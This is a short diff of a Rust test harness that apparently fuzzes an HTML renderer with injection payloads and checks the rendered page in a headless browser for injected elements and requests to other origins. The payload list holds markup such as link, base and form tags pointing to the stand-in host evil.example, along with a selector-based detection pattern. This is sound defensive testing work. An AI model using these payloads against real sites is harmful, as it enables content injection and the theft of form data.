@@ -73,7 +73,7 @@ pub fn payloads() -> Vec<String> {
     all.push("<link rel=stylesheet href=//evil.example>".into());
     all.push("<base href=//evil.example>".into());
     all.push("<form action=//evil.example><button autofocus>x</form>".into());
-    all.push("<div hx-get=\"/\" hx-trigger=\"load\">x</div>".into());
+    all.push("<div data-refresh=\"0\">x</div>".into());
     let known = all.len();
     for n in 0..200usize.saturating_sub(known) {
         let (tag, out) = (tags[n % tags.len()], breaks[n % breaks.len()]);
@@ -153,7 +153,7 @@ async fn harm(browser: &Browser, url: &str, ok: bool) -> Vec<String> {
 async fn seen(browser: &Browser) -> Vec<String> {
     const LOOK: &str = "({ran: !!window.__ran || document.title === 'ran',
         wide: document.documentElement.scrollWidth - innerWidth,
-        strange: document.querySelectorAll('main script, main iframe, main object, main style, main img, main video, main math, main link, main meta, main base, [hx-get^=\"/\"]:not(#work), main *[onerror], main *[onload]').length,
+        strange: document.querySelectorAll('main script, main iframe, main object, main style, main img, main video, main math, main link, main meta, main base, [data-refresh]:not(#work, #story), main *[onerror], main *[onload]').length,
         asked: performance.getEntriesByType('resource').filter((one) => !one.name.startsWith(location.origin)).map((one) => one.name)})";
     let seen = browser.eval(LOOK).await;
     let mut harm = Vec::new();
